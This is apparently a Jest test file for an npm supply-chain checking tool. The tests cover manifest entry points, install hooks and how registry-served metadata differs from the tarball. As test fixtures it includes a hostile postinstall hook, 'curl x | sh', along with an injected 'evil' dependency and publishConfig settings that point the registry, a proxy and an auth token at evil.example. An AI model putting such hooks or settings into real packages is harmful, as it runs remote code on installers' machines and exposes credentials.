import { describe, expect, test } from '@jest/globals';
import { checkManifest, compareInstallFacts, installFacts, reviewPublishConfig } from '../src/index.js';

describe('installFacts: what an install does, normalised as npm normalises on publish', () => {
  test('a string bin is named after the unscoped package; ./ is dropped; optional deps count as deps', () => {
    const facts = installFacts(
      {
        name: '@scope/tool',
        bin: './bin/cli.js',
        dependencies: { a: '^1.0.0', b: 'user/repo#v1' },
        optionalDependencies: { c: '2.0.0' },
        bundledDependencies: ['a'],
        os: ['linux', 'darwin'],
      },
      ['bin/cli.js'],
    );
    expect(facts.bin).toEqual({ tool: 'bin/cli.js' });
    expect(facts.dependencies).toEqual({ a: '^1.0.0', b: 'github:user/repo#v1', c: '2.0.0' });
    expect(facts.bundleDependencies).toEqual(['a']);
    expect(facts.os).toEqual(['darwin', 'linux']);
  });

  test('directories.bin, bundleDependencies: true, and the implicit node-gyp rebuild of a binding.gyp', () => {
    const facts = installFacts(
      { name: 'native', directories: { bin: './bin' }, dependencies: { x: '1' }, bundleDependencies: true },
      ['bin/one', 'bin/.hidden', 'binding.gyp', 'lib/index.js'],
    );
    expect(facts.bin).toEqual({ one: 'bin/one' });
    expect(facts.bundleDependencies).toEqual(['x']);
    expect(facts.installScripts).toEqual({ install: 'node-gyp rebuild' });
    expect(installFacts({ name: 'native', gypfile: false }, ['binding.gyp']).installScripts).toEqual({});
  });

  test('the registry adding a dependency, removing a bin or adding a postinstall is a difference, named', () => {
    const tarball = installFacts({ name: 'p', bin: 'cli.js', dependencies: { a: '1.0.0' } }, ['cli.js']);
    const served = installFacts(
      { name: 'p', bin: {}, dependencies: { a: '1.0.0', evil: '6.6.6' }, scripts: { postinstall: 'curl x | sh' } },
      ['cli.js'],
    );
    expect(compareInstallFacts(tarball, served)).toEqual([
      'dependencies.evil: the registry serves "6.6.6", the tarball has (absent)',
      'bin.p: the registry serves (absent), the tarball has "cli.js"',
      'installScripts.postinstall: the registry serves "curl x | sh", the tarball has (absent)',
    ]);
    expect(compareInstallFacts(tarball, tarball)).toEqual([]);
  });
});

describe('checkManifest', () => {
  const files = new Set(['package.json', 'lib/index.js', 'lib/index.mjs', 'bin/cli.js', 'dist/a.js', 'dist/b.js']);

  test('entry points that exist pass; install hooks block unless allowed', () => {
    const manifest = {
      name: 'ok',
      main: 'lib/index',
      bin: { cli: './bin/cli.js' },
      exports: {
        '.': { import: './lib/index.mjs', require: './lib/index.js' },
        './dist/*': './dist/*.js',
        './x': null,
      },
      scripts: { postinstall: 'node setup.js', test: 'jest' },
    };
    expect(checkManifest(manifest, files, { allowInstallScripts: false })).toEqual([
      { kind: 'install-script', detail: 'scripts.postinstall runs on every install: "node setup.js"', blocking: true },
    ]);
    expect(checkManifest(manifest, files, { allowInstallScripts: true })[0]?.blocking).toBe(false);
  });

  test('a missing bin, main, types or exports target is named and blocks', () => {
    const findings = checkManifest(
      {
        name: 'broken',
        main: 'index.js',
        types: 'index.d.ts',
        bin: { gone: 'bin/gone.js' },
        exports: { '.': ['./lib/missing.js'], './feature/*': './feature/*.js' },
      },
      files,
      { allowInstallScripts: false },
    );
    expect(findings.map((f) => f.detail)).toEqual([
      'bin.gone -> bin/gone.js is not in the tarball',
      'main -> index.js is not in the tarball',
      'types -> index.d.ts is not in the tarball',
      'exports["."][0] -> ./lib/missing.js is not in the tarball',
      'exports["./feature/*"] -> ./feature/*.js is not in the tarball',
    ]);
    expect(findings.every((f) => f.blocking)).toBe(true);
  });
});

describe('reviewPublishConfig', () => {
  test('registry, scope registry, tag, access and provenance are overridden; other npm settings are refused', () => {
    expect(
      reviewPublishConfig({
        publishConfig: {
          tag: 'beta',
          registry: 'https://evil.example/',
          '@scope:registry': 'https://evil.example/',
          access: 'public',
          provenance: false,
          exports: './dist/index.js',
          directory: 'dist',
          proxy: 'http://evil.example:3128',
          'strict-ssl': false,
          '//evil.example/:_authToken': 'x',
        },
      }),
    ).toEqual({
      overridden: {
        tag: 'beta',
        registry: 'https://evil.example/',
        '@scope:registry': 'https://evil.example/',
        access: 'public',
        provenance: false,
      },
      refused: ['proxy', 'strict-ssl', '//evil.example/:_authToken'],
    });
    expect(reviewPublishConfig({ name: 'x' })).toEqual({ overridden: {}, refused: [] });
  });
});
